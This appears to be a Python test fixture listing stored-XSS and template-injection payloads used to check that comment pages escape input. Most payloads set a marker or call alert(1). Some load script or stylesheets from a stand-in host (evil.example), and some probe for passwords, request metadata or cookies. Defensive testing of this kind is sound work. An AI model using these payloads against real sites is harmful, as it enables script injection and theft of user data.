"""Stored-XSS payloads, shared by the HTML tests and the browser test.

Every payload that could run sets `window.__xss` (directly or via alert/print hooks in the
browser test), so "no script ran" is one check in Chromium.
"""

SCRIPTS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<script>/*</script>*/window.__xss=1</script>",
    "-->\u003cscript>window.__xss=1</script><!--",
    "<![CDATA[<script>window.__xss=1</script>]]>",
]

HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror='window.__xss=1'>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<div onmouseover=window.__xss=1>hover</div>",
    '" onmouseover="window.__xss=1" x="',
    "' onmouseover='window.__xss=1' x='",
    '" autofocus onfocus="window.__xss=1" x="',
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<form><button formaction=javascript:window.__xss=1>x</button></form>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    "<link rel=stylesheet href=javascript:window.__xss=1>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<base href=javascript:window.__xss=1//>",
]

URLS = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "java\tscript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "<a href=javascript:window.__xss=1>klik</a>",
    "<a href='&#106;avascript:window.__xss=1'>klik</a>",
    "vbscript:msgbox(1)",
]

SVG_AND_MATH = [
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
]

UNICODE_TRICKS = [
    "LSM \u202egnp.exe\u202c Pelita",  # right-to-left override
    "\u200bLSM\u200d Pelita\ufeff",  # zero-width characters
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",  # fullwidth angle brackets
    "\u2028<img src=x onerror=window.__xss=1>\u2029",  # JS line separators
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "Yayasan \U0001f600 <b>tebal</b> \u0645\u0631\u062d\u0628\u0627",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "${7*7}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "#{7*7}",
]

PAYLOADS = SCRIPTS + HANDLERS + URLS + SVG_AND_MATH + UNICODE_TRICKS + TEMPLATES

# Typed where comments go (bodies, names, reasons, responses); those that could run call
# alert(1), which the browser test hooks too. The comment pages take EVERY_PAYLOAD, these
# first; PAYLOADS alone stays the list of the browser test and the per-page test.
ALERTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">klik di sini</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "{{ 7|add:7 }} {% debug %} {{ request.META }}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;",
    "\u202egnp.exe \u202d teks terbalik",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entitas</a>',
    '<div style="width:expression(alert(1))">gaya</div>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>kirim</button></form>',
    '<video><source onerror="alert(1)"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "${alert(1)} `${document.cookie}`",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '\\"-alert(1)-\\"',
    "</script><script>alert(1)</script>",
    "data:text/html,<script>alert(1)</script>",
    "<a href=//evil.example/>tautan</a>",
    "java\u200bscript:alert(1) zero\u200dwidth\ufeff",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<marquee onstart=alert(1)>berjalan</marquee>",
]

EVERY_PAYLOAD = ALERTS + [payload for payload in PAYLOADS if payload not in ALERTS]
